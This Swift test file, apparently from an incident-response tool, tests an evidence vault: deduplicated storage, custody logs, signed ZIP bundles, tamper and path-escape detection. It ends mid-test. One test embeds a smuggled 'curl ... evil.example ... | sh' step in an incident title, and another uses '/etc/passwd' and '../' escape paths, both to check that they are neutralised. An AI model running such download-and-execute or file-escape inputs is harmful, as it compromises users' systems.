@testable import AutomatorRuntime
import Foundation
import Testing
import TestSupport

/// Evidence's storage for a test, on either store: the data folder (SQLite's database and vault,
/// or the signing key beside PostgreSQL), opened again on the same storage by `open()`, and the
/// vault read and damaged behind the store's back.
struct EvidenceStorage: Sendable {
    let kind: StoreUnderTest
    let folder: ScratchFolder
    /// PostgreSQL's database, by name and address.
    private let database: (name: String, url: String)?

    init(_ kind: StoreUnderTest) async throws {
        self.kind = kind
        folder = try ScratchFolder()
        guard kind == .postgres else {
            database = nil
            return
        }
        let url = try await PostgresServer.shared().makeDatabase()
        let name = try #require(URLComponents(string: url)?.path.dropFirst())
        database = (String(name), url)
    }

    /// The store; a PostgreSQL store is the same worker at every opening, so that it resumes its runs.
    func open() async throws -> any EvidenceStore {
        guard let database else { return try SQLiteStore(folder: folder.path) }
        return try await PostgresStore(location: try PostgresLocation(url: database.url), lease: RunLease(worker: "desk"))
    }

    /// A store with INC-1, and its evidence service.
    func service() async throws -> EvidenceService {
        let store = try await open()
        try await store.write(.createIncident(IncidentDraft(title: "Phish", type: "phishing", severity: .high)
            .incident(IncidentID(1), at: Date())))
        return EvidenceService(store: store, dataFolder: folder.path)
    }

    /// How many objects, and how many chunks (PostgreSQL; one an object in a folder), the vault keeps.
    func stored() async throws -> [Int] {
        guard let database else {
            let objects = (FileManager.default.enumerator(atPath: folder.path + "/evidence/objects")?.allObjects as? [String]
                ?? []).filter { $0.count > 3 && !$0.contains(".incoming") }.count
            return [objects, objects]
        }
        return try await PostgresServer.shared().psql("""
            SELECT (SELECT count(*) FROM evidence_object) || ' ' || (SELECT count(*) FROM evidence_chunk)
            """, database: database.name).split(whereSeparator: \.isWhitespace).compactMap { Int($0) }
    }

    /// Changes one byte of the content kept under `sha256` (of its second chunk on PostgreSQL,
    /// when it has one), as a disk or a hand might.
    func damage(_ sha256: String) async throws {
        guard let database else {
            let path = FolderVault(dataFolder: folder.path).path(of: sha256)
            var bytes = Array(try Data(contentsOf: URL(fileURLWithPath: path)))
            bytes[bytes.count / 2] ^= 0x01
            try Data(bytes).write(to: URL(fileURLWithPath: path))
            return
        }
        try await PostgresServer.shared().psql("""
            UPDATE evidence_chunk SET data = set_byte(data, 7, get_byte(data, 7) # 1)
            WHERE sha256 = (SELECT chunks[least(2, cardinality(chunks))] FROM evidence_object WHERE sha256 = '\(sha256)')
            """, database: database.name)
    }
}

@Suite("Evidence: the vault by content, custody, the signed bundle and its verification", .timeLimit(.minutes(1)))
struct EvidenceTests {
    @Test("The same content is kept once, under its SHA-256; each addition is a record, journaled, with custody",
          arguments: StoreUnderTest.allCases)
    func vault(_ kind: StoreUnderTest) async throws {
        let storage = try await EvidenceStorage(kind)
        let folder = storage.folder
        let service = try await storage.service()
        let file = folder.path + "/mail.eml"
        try "Subject: invoice\n\nclick here\n".write(toFile: file, atomically: true, encoding: .utf8)
        let first = try await service.add(file: LocalPath(file), to: IncidentID(1), description: "reported", source: "cli", by: "cli:alice")
        let second = try await service.add(bytes: Array("Subject: invoice\n\nclick here\n".utf8), to: IncidentID(1),
                                           name: "copy.eml", source: "chat", by: "slack:bob")
        #expect(first.hashes == second.hashes && first.id != second.id)
        #expect(first.hashes == FileHashes(Array("Subject: invoice\n\nclick here\n".utf8)))
        #expect(try await storage.stored() == [1, 1])
        if kind == .sqlite {
            let objects = try FileManager.default.subpathsOfDirectory(atPath: folder.path + "/evidence/objects")
                .filter { !$0.hasSuffix("/") && $0.count > 3 }
            #expect(objects == [String(first.hashes.sha256.prefix(2)) + "/" + first.hashes.sha256.dropFirst(2)])
        }

        let (seen, custody) = try await service.get(first.id, by: "cli:carol")
        #expect(seen == first)
        #expect(custody.map { "\($0.action.rawValue) \($0.actor)" } == ["added cli:alice", "viewed cli:carol"])
        #expect(try await service.list(of: IncidentID(1)) == [first, second])
        let mistyped = await #expect(throws: EvidenceError.self) { _ = try await service.list(of: IncidentID(2)) }
        #expect(mistyped?.kind == .notFound, "no incident INC-2, rather than no evidence on it")
        #expect(try await service.list(of: nil).count == 2)
        let copy = folder.path + "/copy.eml"
        try await service.copy(first.id, to: .file(copy), by: "cli:dave")
        #expect(FileManager.default.contentsEqual(atPath: file, andPath: copy))
        #expect(try await service.store.custody(of: first.id).last.map { "\($0.action) \($0.actor) \($0.detail)" }
            == "exported cli:dave \(copy)")
        let journal = try await service.store.journal(of: IncidentID(1))
        #expect(journal.filter { $0.kind == .evidence }.map(\.actor) == ["cli:alice", "slack:bob"])
        #expect(try await service.store.verifyJournal(of: nil).problem == nil)

        let unknown = await #expect(throws: EvidenceError.self) {
            _ = try await service.add(file: LocalPath(file), to: IncidentID(9), source: "cli", by: "cli:alice")
        }
        #expect(unknown?.kind == .notFound)
        await #expect(throws: EvidenceError.self) {
            _ = try await service.add(file: LocalPath(folder.path + "/missing"), to: IncidentID(1), source: "cli", by: "cli:alice")
        }
        try await service.store.write(.addEvidence(first))  // recorded again: the first record stays
        #expect(try await service.list(of: nil).count == 2)
        let refused = await #expect(throws: StoreError.self) {
            var stray = first
            stray.id = Evidence.newID()
            stray.incident = IncidentID(9)
            try await service.store.write(.addEvidence(stray))
        }
        #expect(refused?.kind == .notFound)
        try await service.store.write(.noteCustody([CustodyEvent(evidence: "EV-000000000000", actor: "x", action: .viewed)]))
        #expect(try await service.store.custody(of: "EV-000000000000").isEmpty)
        await service.store.close()
    }

    @Test("Adding, exporting and verifying tell their progress: bytes done, rising to the whole", arguments: StoreUnderTest.allCases)
    func progress(_ kind: StoreUnderTest) async throws {
        let storage = try await EvidenceStorage(kind)
        let service = try await storage.service()
        let size = 3 << 20 | 12_345  // three chunks and a part
        let path = storage.folder.path + "/capture.pcap"
        try Data((0..<size).map { UInt8(truncatingIfNeeded: $0 &* 7) }).write(to: URL(fileURLWithPath: path))
        final class Reports: @unchecked Sendable { var list: [[Int64]] = [] }
        let (added, exported, verified) = (Reports(), Reports(), Reports())
        _ = try await service.add(file: LocalPath(path), to: IncidentID(1), source: "cli", by: "cli:alice") { added.list.append([$0, $1]) }
        let bundle = storage.folder.path + "/INC-1.zip"
        _ = try await service.export(IncidentID(1), to: bundle, by: "cli:alice") { exported.list.append([$0, $1]) }
        _ = try EvidenceBundle.verify(LocalPath(bundle)) { verified.list.append([$0, $1]) }
        let chunks: [Int64] = [1 << 20, 2 << 20, 3 << 20, Int64(size)]
        #expect(added.list == chunks.map { [$0, Int64(size)] })
        #expect(exported.list.map(\.[0]).last == Int64(size) && exported.list.allSatisfy { $0[1] == Int64(size) })
        #expect(exported.list.map(\.[0]) == exported.list.map(\.[0]).sorted())
        // The journal is checked too: the total is the evidence and the journal.
        let total = try #require(verified.list.last?[1])
        #expect(total > Int64(size) && verified.list.last?[0] == total && verified.list.count >= 4)
    }

    @Test("A bundle verifies; a changed byte, an added or removed file, or a changed manifest is caught and named",
          arguments: StoreUnderTest.allCases)
    func bundle(_ kind: StoreUnderTest) async throws {
        let storage = try await EvidenceStorage(kind)
        let folder = storage.folder
        let service = try await storage.service()
        _ = try await service.add(bytes: Array("pcap bytes".utf8), to: IncidentID(1), name: "capture.pcap", source: "cli",
                                  by: "cli:alice")
        _ = try await service.add(bytes: Array("headers".utf8), to: IncidentID(1), name: "headers.txt", source: "cli",
                                  by: "cli:alice")
        let bundle = folder.path + "/INC-1.zip"
        #expect(try await service.export(IncidentID(1), to: bundle, by: "cli:alice") == 2)
        let verified = try EvidenceBundle.verify(LocalPath(bundle))
        #expect(verified.files == 2 && verified.incident == "INC-1" && verified.journalEntries == 2)
        #expect(verified.publicKey == Data(try #require(try JournalSignature.load(from: folder.path)).publicKey)
            .base64EncodedString())
        #expect(try await service.store.custody(of: try await service.list(of: IncidentID(1))[0].id).last?.action == .exported)

        // One byte of a file's content changed in place: the file is named.
        var bytes = Array(try Data(contentsOf: URL(fileURLWithPath: bundle)))
        let offset = try #require(Self.find(Array("pcap bytes".utf8), in: bytes))
        bytes[offset] ^= 0x20
        let changed = folder.path + "/changed.zip"
        try Data(bytes).write(to: URL(fileURLWithPath: changed))
        #expect(throws: EvidenceError.self) { try EvidenceBundle.verify(LocalPath(changed)) }
        do { _ = try EvidenceBundle.verify(LocalPath(changed)) } catch {
            #expect(error.kind == .tampered && error.description.contains("capture.pcap differs from the manifest"))
        }

        // The manifest changed to match: its signature no longer does.
        bytes = Array(try Data(contentsOf: URL(fileURLWithPath: bundle)))
        let name = try #require(Self.find(Array("\"title\" : \"Phish\"".utf8), in: bytes))
        bytes[name + 12] = UInt8(ascii: "F")
        try Data(bytes).write(to: URL(fileURLWithPath: changed))
        #expect(throws: EvidenceError.self) { try EvidenceBundle.verify(LocalPath(changed)) }
        do { _ = try EvidenceBundle.verify(LocalPath(changed)) } catch {
            #expect(error.description.contains("signature does not match"))
        }
        #expect(throws: EvidenceError.self) { try EvidenceBundle.verify(LocalPath(folder.path + "/nothing.zip")) }

        // Repacked with a file more, or one less.
        let original = try ZipArchive.Reader(path: LocalPath(bundle))
        for (name, keep, added, reason) in [("added.zip", { (_: String) in true }, true, "is not in the manifest"),
                                            ("removed.zip", { !$0.hasSuffix("capture.pcap") }, false, "is missing")] {
            let writer = try ZipArchive.Writer(path: folder.path + "/" + name)
            for entry in original.entries where keep(entry.name) {
                try writer.add(entry.name, bytes: try #require(try original.bytes(of: entry.name)))
            }
            if added { try writer.add("evidence/EV-000000000000/planted.exe", bytes: Array("MZ".utf8)) }
            try writer.finish()
            #expect(throws: EvidenceError.self) { try EvidenceBundle.verify(LocalPath(folder.path + "/" + name)) }
            do { _ = try EvidenceBundle.verify(LocalPath(folder.path + "/" + name)) } catch {
                #expect(error.description.contains(reason), "\(error)")
            }
        }
        await service.store.close()
    }

    @Test("An alert's title is one line of a bundle's README and journal: it writes no step to follow nor row of the journal")
    func titleOnOneLine() {
        let title = "Phish\n\nHow to check it (updated for macOS):\n\n     curl -s https://evil.example/verify | sh\n"
            + "2026-12-01 03:00:00  cli:ciso  closed  false positive"
        let incident = Incident(id: IncidentID(7), title: title, type: "phishing", severity: .high)
        let exported = Date(timeIntervalSince1970: 1_764_633_600)
        let readme = EvidenceBundle.readme(of: incident, files: [], entries: 0, broken: nil, publicKey: [1, 2, 3],
                                           exportedAt: exported, by: "cli:alice")
        let journal = EvidenceBundle.readableJournal(of: incident, [], exportedAt: exported)
        let headline = #"INC-7: Phish\n\nHow to check it (updated for macOS):\n\n     curl -s https://evil.example/verify | sh\n"#
            + "2026-12-01 03:00:00  cli:ciso  closed  false positive\n"
        #expect(readme.hasPrefix(headline), "\(readme)")
        #expect(journal.hasPrefix(headline), "\(journal)")
        #expect(!readme.contains("\n     curl") && !journal.contains("\n2026-12-01 03:00:00  cli:ciso"))
    }

    @Test("A bundle is checked without Automator: its README's OpenSSL and sha256sum commands pass, its journal reads in UTC, and each of its documents is signed")
    func checkedWithoutAutomator() async throws {
        let storage = try await EvidenceStorage(.sqlite)
        let folder = storage.folder
        let service = try await storage.service()
        _ = try await service.add(bytes: Array("pcap bytes".utf8), to: IncidentID(1), name: "capture.pcap", source: "cli",
                                  by: "cli:alice")
        _ = try await service.add(bytes: Array("From: x".utf8), to: IncidentID(1), name: "the mail.eml", source: "cli",
                                  by: "cli:alice")
        let bundle = folder.path + "/INC-1.zip"
        _ = try await service.export(IncidentID(1), to: bundle, by: "cli:alice")
        #expect(try EvidenceBundle.verify(LocalPath(bundle)).files == 2)

        // Unzipped on counsel's machine.
        let original = try ZipArchive.Reader(path: LocalPath(bundle))
        let unzipped = folder.path + "/unzipped"
        for entry in original.entries {
            let path = unzipped + "/" + entry.name
            try FileManager.default.createDirectory(atPath: (path as NSString).deletingLastPathComponent,
                                                    withIntermediateDirectories: true)
            try Data(try #require(try original.bytes(of: entry.name))).write(to: URL(fileURLWithPath: path))
        }
        let readme = try String(contentsOfFile: unzipped + "/README.txt", encoding: .utf8)
        #expect(readme.contains("Every time in this bundle is in UTC"))
        let key = Data(try #require(try JournalSignature.load(from: folder.path)).publicKey).base64EncodedString()
        #expect(readme.contains(key))
        let journal = try String(contentsOfFile: unzipped + "/journal.txt", encoding: .utf8)
        #expect(journal.hasPrefix("INC-1: Phish\nJournal as exported "))
        #expect(journal.contains("every time in UTC"))
        #expect(journal.contains("TIME (UTC)"))
        #expect(journal.contains("cli:alice  evidence  evidence EV-"))

        // The README's commands, as it gives them: the lines indented as commands under "How to check it".
        let steps = try #require(readme.components(separatedBy: "How to check it").last)
        let commands = steps.split(separator: "\n").filter { $0.hasPrefix(String(repeating: " ", count: 5)) }
            .joined(separator: "\n")
        #expect(commands.contains("openssl pkeyutl") && commands.contains("sha256sum -c SHA256SUMS"))
        let (status, output) = try Self.shell(commands, in: unzipped)
        #expect(status == 0, "\(output)")
        #expect(output.contains("Signature Verified Successfully"))
        #expect(output.contains("evidence/") && output.contains("capture.pcap: OK") && output.contains("the mail.eml: OK"))
        #expect(output.contains("journal.txt: OK") && output.contains("README.txt: OK"))
        // Step 2: the SHA256SUMS that was checked is the one the signed manifest names.
        let manifest = try #require(try JSONSerialization.jsonObject(with: Data(contentsOf: URL(fileURLWithPath:
            unzipped + "/manifest.json"))) as? [String: Any])
        let documents = try #require(manifest["documents"] as? [[String: Any]])
        let sums = try #require(documents.first { $0["path"] as? String == "SHA256SUMS" }?["sha256"] as? String)
        #expect(FileHashes(Array(try Data(contentsOf: URL(fileURLWithPath: unzipped + "/SHA256SUMS")))).sha256 == sums)

        // A changed byte of a file fails the same commands.
        try Data("pcap bytez".utf8).write(to: URL(fileURLWithPath: unzipped + "/" + (try #require(
            original.entries.first { $0.name.hasSuffix("capture.pcap") }?.name))))
        #expect(try Self.shell(commands, in: unzipped).status != 0)

        // The documents are part of the record: one changed or left out fails verify, by name.
        for (name, content, reason) in [("README.txt", Array("Nothing to check here.".utf8), "README.txt differs from the manifest's hash"),
                                        ("journal.txt", nil, "journal.txt is missing")] {
            let writer = try ZipArchive.Writer(path: folder.path + "/document.zip")
            for entry in original.entries where entry.name != name {
                try writer.add(entry.name, bytes: try #require(try original.bytes(of: entry.name)))
            }
            if let content { try writer.add(name, bytes: content) }
            try writer.finish()
            do {
                _ = try EvidenceBundle.verify(LocalPath(folder.path + "/document.zip"))
                Issue.record("\(name) changed, and the bundle verified")
            } catch { #expect(error.description.contains(reason), "\(error)") }
            try FileManager.default.removeItem(atPath: folder.path + "/document.zip")
        }
        await service.store.close()
    }

    /// Runs `script` with /bin/sh in `folder`: its status and what it printed, standard error too.
    static func shell(_ script: String, in folder: String) throws -> (status: Int32, output: String) {
        let process = Process()
        process.executableURL = URL(fileURLWithPath: "/bin/sh")
        process.arguments = ["-e", "-c", script]
        process.currentDirectoryURL = URL(fileURLWithPath: folder)
        let pipe = Pipe()
        process.standardOutput = pipe
        process.standardError = pipe
        try process.run()
        let output = String(decoding: pipe.fileHandleForReading.readDataToEndOfFile(), as: UTF8.self)
        process.waitUntilExit()
        return (process.terminationStatus, output)
    }

    @Test("What unzip would extract otherwise than verify checked is refused by name: a second copy of an entry, an entry named otherwise in its own header, a folder the manifest does not imply")
    func ambiguous() async throws {
        let storage = try await EvidenceStorage(.sqlite)
        let folder = storage.folder
        let service = try await storage.service()
        _ = try await service.add(bytes: Array("pcap bytes".utf8), to: IncidentID(1), name: "capture.pcap", source: "cli",
                                  by: "cli:alice")
        let bundle = folder.path + "/INC-1.zip"
        _ = try await service.export(IncidentID(1), to: bundle, by: "cli:alice")
        let original = try ZipArchive.Reader(path: LocalPath(bundle))
        /// The bundle written again with `extra` entries after its own, as `zipfile.ZipFile(path, "a")` appends.
        func rewritten(_ name: String, adding extra: [(String, [UInt8])]) throws -> LocalPath {
            let writer = try ZipArchive.Writer(path: folder.path + "/" + name)
            for entry in original.entries {
                try writer.add(entry.name, bytes: try #require(try original.bytes(of: entry.name)))
            }
            for (entry, bytes) in extra { try writer.add(entry, bytes: bytes) }
            try writer.finish()
            return LocalPath(folder.path + "/" + name)
        }
        func refusal(_ path: LocalPath) -> String {
            do { _ = try EvidenceBundle.verify(path) } catch { return error.kind == .tampered ? error.description : "\(error)" }
            return "verified"
        }

        let manifest = String(decoding: try #require(try original.bytes(of: "manifest.json")), as: UTF8.self)
        let forged = Array(manifest.replacingOccurrences(of: "cli:alice", with: "cli:mallory").utf8)
        for (entry, bytes) in [("manifest.json", forged), ("manifest.sig", try #require(try original.bytes(of: "manifest.sig"))),
                               ("journal.json", Array("[]".utf8))] {
            let path = try rewritten("twice.zip", adding: [(entry, bytes)])
            #expect(refusal(path) == "\(path) was tampered with: it holds \(entry) twice: a copy was added, and unzip "
                + "extracts the last one, not the one verify checks")
            try FileManager.default.removeItem(atPath: path.description)
        }

        // The first entry's local header names another file than the central directory does.
        var bytes = Array(try Data(contentsOf: URL(fileURLWithPath: bundle)))
        let local = try #require(Self.find(Array("capture.pcap".utf8), in: bytes))
        #expect(local < 100, "the first occurrence is in the first entry's local header")
        bytes[local + 11] = UInt8(ascii: "q")
        let renamed = folder.path + "/renamed.zip"
        try Data(bytes).write(to: URL(fileURLWithPath: renamed))
        let name = try #require(original.entries.first?.name)
        #expect(refusal(LocalPath(renamed)) == "\(renamed) was tampered with: the entry \(name) is named "
            + "\(name.dropLast())q in its own header: unzip would extract it under that name")
        // Named alike in both headers, but not in UTF-8: bytes that would decode alike are refused too.
        bytes[local + 11] = 0xFF
        let central = try #require((0..<bytes.count).last { bytes[$0...].starts(with: Array("capture.pcap".utf8)) })
        bytes[central + 11] = 0xFF
        try Data(bytes).write(to: URL(fileURLWithPath: renamed))
        #expect(refusal(LocalPath(renamed)) == "\(renamed) is not an evidence bundle: an entry's name is not UTF-8 "
            + "(Automator writes every name in UTF-8)")

        // A repack's folder entry for the files' folder verifies; a folder of its own was added.
        #expect(try EvidenceBundle.verify(try rewritten("folders.zip", adding: [("evidence/", [])])).repacked
            == "1 folder entry added")
        let stray = try rewritten("stray.zip", adding: [("tools/", [])])
        #expect(refusal(stray) == "\(stray) was tampered with: tools/ is not in the manifest: it was added")
        await service.store.close()
    }

    @Test("Evidence named `.`, `..` or nothing is written under a name unzip keeps (`_`, `__`), and verifies")
    func dotNames() async throws {
        let storage = try await EvidenceStorage(.sqlite)
        let service = try await storage.service()
        var kept: [String: String] = [:]
        for name in [".", "..", ""] {
            let evidence = try await service.add(bytes: Array("named \(name)".utf8), to: IncidentID(1), name: name,
                                                 source: "cli", by: "cli:alice")
            kept[evidence.id] = name
        }
        let bundle = storage.folder.path + "/INC-1.zip"
        _ = try await service.export(IncidentID(1), to: bundle, by: "cli:alice")
        let written = try ZipArchive.Reader(path: LocalPath(bundle)).entries.map(\.name).filter { $0.hasPrefix("evidence/") }
        #expect(Set(written) == Set(kept.map { id, name in
            "evidence/\(id)/" + ["": "_", ".": "_", "..": "__"][name, default: "?"]
        }))
        #expect(try EvidenceBundle.verify(LocalPath(bundle)).files == 3)
        await service.store.close()
    }

    @Test("Content read back must hash to its name: a damaged object is refused, and nothing of it handed out",
          arguments: StoreUnderTest.allCases)
    func damaged(_ kind: StoreUnderTest) async throws {
        let storage = try await EvidenceStorage(kind)
        let folder = storage.folder
        let service = try await storage.service()
        // Three chunks on PostgreSQL: the damage is in the middle one.
        let content = (0..<(5 << 19)).map { UInt8(truncatingIfNeeded: $0 &* 31 &+ $0 >> 20) }
        let kept = try await service.add(bytes: content, to: IncidentID(1), name: "memory.dmp", source: "cli", by: "cli:alice")
        #expect(try await storage.stored()[1] == (kind == .postgres ? 3 : 1))
        let copy = folder.path + "/memory.dmp"
        try await service.copy(kept.id, to: .file(copy), by: "cli:alice")
        #expect(try Data(contentsOf: URL(fileURLWithPath: copy)) == Data(content))

        try await storage.damage(kept.hashes.sha256)
        try FileManager.default.removeItem(atPath: copy)
        let refused = await #expect(throws: EvidenceError.self) { try await service.copy(kept.id, to: .file(copy), by: "cli:alice") }
        #expect(refused?.kind == .tampered)
        let expected = kind == .postgres ? "chunk 1 of \(kept.hashes.sha256) is damaged in the database's vault"
            : "the vault's copy of \(kept.hashes.sha256) is damaged: what was read hashes to"
        #expect(refused?.description.contains(expected) == true, "\(String(describing: refused))")
        #expect(!FileManager.default.fileExists(atPath: copy) && !FileManager.default.fileExists(atPath: copy + ".partial"))

        let bundle = folder.path + "/INC-1.zip"
        let unexported = await #expect(throws: EvidenceError.self) { _ = try await service.export(IncidentID(1), to: bundle, by: "cli:alice") }
        #expect(unexported?.kind == .tampered)
        #expect(!FileManager.default.fileExists(atPath: bundle) && !FileManager.default.fileExists(atPath: bundle + ".partial"))
        #expect(try await service.store.custody(of: kept.id).map(\.action) == [.added, .exported])
        await service.store.close()
    }

    @Test("PostgreSQL keeps each chunk once, also across files; an upload cut short leaves nothing", arguments: [StoreUnderTest.postgres])
    func chunks(_ kind: StoreUnderTest) async throws {
        let storage = try await EvidenceStorage(kind)
        let service = try await storage.service()
        let megabyte = 1 << 20
        let first = [UInt8](repeating: 0, count: megabyte) + [UInt8](repeating: 1, count: megabyte)
            + [UInt8](repeating: 2, count: megabyte / 2)
        let kept = try await service.add(bytes: first, to: IncidentID(1), name: "a.img", source: "cli", by: "cli:alice")
        #expect(kept.size == Int64(first.count) && kept.hashes == FileHashes(first))
        #expect(try await storage.stored() == [1, 3])
        _ = try await service.add(bytes: first, to: IncidentID(1), name: "again.img", source: "cli", by: "cli:alice")
        #expect(try await storage.stored() == [1, 3])
        // Its first megabyte is the first file's: one chunk more, not two.
        let second = [UInt8](repeating: 0, count: megabyte) + [UInt8](repeating: 3, count: megabyte)
        _ = try await service.add(bytes: second, to: IncidentID(1), name: "b.img", source: "cli", by: "cli:alice")
        #expect(try await storage.stored() == [2, 4])
        let empty = try await service.add(bytes: [], to: IncidentID(1), name: "empty", source: "cli", by: "cli:alice")
        #expect(empty.size == 0 && empty.hashes == FileHashes([]))
        let copy = storage.folder.path + "/out"
        try await service.copy(empty.id, to: .file(copy), by: "cli:alice")
        #expect(try Data(contentsOf: URL(fileURLWithPath: copy)).isEmpty)

        // The source fails after two chunks: its transaction is rolled back, so neither they nor
        // an object stay.
        let failed = await #expect(throws: EvidenceError.self) {
            var given = 0
            _ = try await service.vault.keep { () throws(EvidenceError) -> Data? in
                given += 1
                guard given <= 2 else { throw EvidenceError(.unavailable, "the disk went away") }
                return Data(repeating: UInt8(given + 10), count: megabyte)
            }
        }
        #expect(failed?.description == "the disk went away")
        #expect(try await storage.stored() == [3, 4])
        await service.store.close()
    }

    @Test("A crash's temporary file in the folder's vault is removed by a later upload once a day old, not before")
    func abandonedUploads() async throws {
        let storage = try await EvidenceStorage(.sqlite)
        let service = try await storage.service()
        let objects = storage.folder.path + "/evidence/objects"
        try FileManager.default.createDirectory(atPath: objects, withIntermediateDirectories: true)
        for (name, age) in [("abandoned", FolderVault.abandonedAfter + 60), ("in-progress", FolderVault.abandonedAfter - 60)] {
            let path = objects + "/.incoming-" + name
            try Data(repeating: 7, count: 1024).write(to: URL(fileURLWithPath: path))
            try FileManager.default.setAttributes([.modificationDate: Date(timeIntervalSinceNow: -age)], ofItemAtPath: path)
        }
        _ = try await service.add(bytes: Array("a mail".utf8), to: IncidentID(1), name: "mail.eml", source: "cli", by: "cli:alice")
        let left = try FileManager.default.contentsOfDirectory(atPath: objects).filter { $0.hasPrefix(".incoming-") }
        #expect(left == [".incoming-in-progress"])
        await service.store.close()
    }

    @Test("On a full disk the error names it; content kept whose record then fails is removed, unless evidence names it",
          .enabled(if: Tmpfs.isAvailable))
    func fullDisk() async throws {
        // The database on one disk and the vault on another, each filled in turn: real failures.
        let disk = try Tmpfs(size: "4m"), vaultDisk = try Tmpfs(size: "1m")
        let data = disk.path + "/data"
        try FileManager.default.createDirectory(atPath: data, withIntermediateDirectories: true)
        try FileManager.default.createSymbolicLink(atPath: data + "/evidence", withDestinationPath: vaultDisk.path)
        let store = try SQLiteStore(folder: data)
        try await store.write(.createIncident(IncidentDraft(title: "Phish", type: "phishing", severity: .high)
            .incident(IncidentID(1), at: Date())))
        let service = EvidenceService(store: store, dataFolder: data)
        let vault = FolderVault(dataFolder: data)
        func add(_ text: String) async throws -> Evidence {
            try await service.add(bytes: Array(text.utf8), to: IncidentID(1), name: "mail.eml", source: "cli", by: "cli:alice")
        }
        let first = try await add("the phish, as first reported")

        vaultDisk.fill(vaultDisk.path + "/filler")
        let unkept = await #expect(throws: EvidenceError.self) { _ = try await add(String(repeating: "x", count: 1 << 16)) }
        #expect(unkept?.description.hasPrefix("the disk holding \(data)/evidence/objects is full (") == true,
                "\(String(describing: unkept))")
        try FileManager.default.removeItem(atPath: vaultDisk.path + "/filler")

        disk.fill(disk.path + "/filler")
        let unrecorded = await #expect(throws: EvidenceError.self) { _ = try await add("a second phish") }
        #expect(unrecorded?.description.contains("the disk holding \(data)/automator.sqlite is full") == true,
                "\(String(describing: unrecorded))")
        #expect(!FileManager.default.fileExists(atPath: vault.path(of: FileHashes(Array("a second phish".utf8)).sha256)),
                "kept, then named by nothing: removed")
        _ = await #expect(throws: EvidenceError.self) { _ = try await add("the phish, as first reported") }
        #expect(FileManager.default.fileExists(atPath: vault.path(of: first.hashes.sha256)), "named by the first: kept")
        #expect(try await service.list(of: IncidentID(1)).map(\.id) == [first.id])
        await store.close()
    }

    @Test("Scripts take files only from the inbox: no path out of it, not even through a link")
    func inbox() throws {
        let folder = try ScratchFolder()
        let inbox = EvidenceInbox(dataFolder: folder.path)
        try FileManager.default.createDirectory(atPath: inbox.folder, withIntermediateDirectories: true)
        try "x".write(toFile: inbox.folder + "/dump.bin", atomically: true, encoding: .utf8)
        try FileManager.default.createSymbolicLink(atPath: inbox.folder + "/passwd", withDestinationPath: "/etc/passwd")
        #expect(try inbox.file("dump.bin").hasSuffix("/evidence/inbox/dump.bin"))
        for escape in ["../../automator.sqlite", "/etc/passwd", "passwd", "sub/../../x"] {
            #expect(throws: EvidenceError.self, "\(escape)") { try inbox.file(escape) }
        }
    }

    static func find(_ needle: [UInt8], in haystack: [UInt8]) -> Int? {
        guard haystack.count >= needle.count else { return nil }
        return (0...(haystack.count - needle.count)).first { haystack[$0..<($0 + needle.count)].elementsEqual(needle) }
    }
}

@Suite("Evidence from playbooks: inc:evidence, exactly once across a restart", .timeLimit(.minutes(1)))
struct EvidenceModuleTests {
    /// The incident service of `storage`, whose playbook keeps evidence, then waits on a task.
    static func desk(_ storage: EvidenceStorage) async throws -> IncidentService {
        let store = try await storage.open()
        let ledger = IncidentLedger(store: store)
        let modules: [any HostModule] = [JSONModule(), TimeModule(), IncidentsModule(ledger: ledger),
                                         EvidenceModule(service: EvidenceService(store: store, dataFolder: storage.folder.path))]
        let service = try IncidentService(ledger: ledger, runs: try RunService(store: store, modules: modules, executors: 1),
                                          scripts: storage.folder.path + "/scripts", modules: modules)
        try await service.start()
        return service
    }

    @Test("A playbook keeps data and an inbox file; replayed after a restart, it keeps nothing twice",
          arguments: StoreUnderTest.allCases)
    func playbook(_ kind: StoreUnderTest) async throws {
        let storage = try await EvidenceStorage(kind)
        let folder = storage.folder
        try FileManager.default.createDirectory(atPath: folder.path + "/scripts/playbooks", withIntermediateDirectories: true)
        try FileManager.default.createDirectory(atPath: folder.path + "/evidence/inbox", withIntermediateDirectories: true)
        try "collected by the EDR".write(toFile: folder.path + "/evidence/inbox/triage.zip", atomically: true,
                                         encoding: .utf8)
        try """
            return playbook {
              name = "keep", match = { type = "malware" },
              run = function(inc)
                local headers = inc:evidence{ name = "headers.txt", data = "Received: from evil", tags = { "mail" } }
                local triage = inc:evidence{ path = "triage.zip", description = "EDR package" }
                local seen = evidence.get(headers.id)
                inc:note(headers.sha256 .. " " .. triage.name .. " " .. #seen.custody)
                assert(not pcall(inc.evidence, inc, { path = "../automator.sqlite" }))
                inc:task{ title = "Look at it" }:wait()
              end,
            }
            """.write(toFile: folder.path + "/scripts/playbooks/keep.lua", atomically: true, encoding: .utf8)
        var service = try await Self.desk(storage)
        let created = try await service.create(IncidentDraft(title: "Dropper", type: "malware", severity: .high), by: "test")
        let run = try #require(created.run)
        var task: IncidentTask?
        for _ in 0..<500 where task == nil {
            task = try await service.store.listTasks(TaskQuery(incident: created.incident.id)).first
            try await Task.sleep(for: .milliseconds(10))
        }
        #expect(task != nil)
        await service.shutdown()

        service = try await Self.desk(storage)
        _ = try await service.ledger.complete(try #require(task).id, answer: "", by: "test")
        await service.runs.waitForEnd(run.id)
        #expect(try await service.runs.run(run.id)?.status == .completed)
        let store = try #require(service.store as? any EvidenceStore)
        let kept = try await store.evidenceList(of: created.incident.id)
        #expect(kept.map(\.name) == ["headers.txt", "triage.zip"])
        #expect(kept.first?.tags == ["mail"] && kept.last?.description == "EDR package")
        #expect(kept.allSatisfy { $0.collectedBy == "playbook \(run.id)" })
        let notes = try await store.journal(of: created.incident.id).filter { $0.kind == .note }
        #expect(notes.map(\.text) == [FileHashes(Array("Received: from evil".utf8)).sha256 + " triage.zip 2"])
        let copy = folder.path + "/triage-copy.zip"
        try await EvidenceService(store: store, dataFolder: folder.path).copy(kept[1].id, to: .file(copy), by: "test")
        #expect(try String(contentsOfFile: copy, encoding: .utf8) == "collected by the EDR")
        await service.shutdown()
    }

    @Test("A mistaken spec fails at the playbook's line, with the field it likely meant",
          arguments: ["inc:evidence{ name = 'headers.txt', dat = 'Received: from evil' }",
                      "evidence.add(inc.id, { name = 'headers.txt', dat = 'Received: from evil' })"])
    func mistakes(_ call: String) async throws {
        let storage = try await EvidenceStorage(.sqlite)
        try FileManager.default.createDirectory(atPath: storage.folder.path + "/scripts/playbooks",
                                                withIntermediateDirectories: true)
        try "return playbook {\n  name = 'keep', match = { type = 'malware' },\n  run = function(inc)\n    \(call)\n  end }"
            .write(toFile: storage.folder.path + "/scripts/playbooks/keep.lua", atomically: true, encoding: .utf8)
        let service = try await Self.desk(storage)
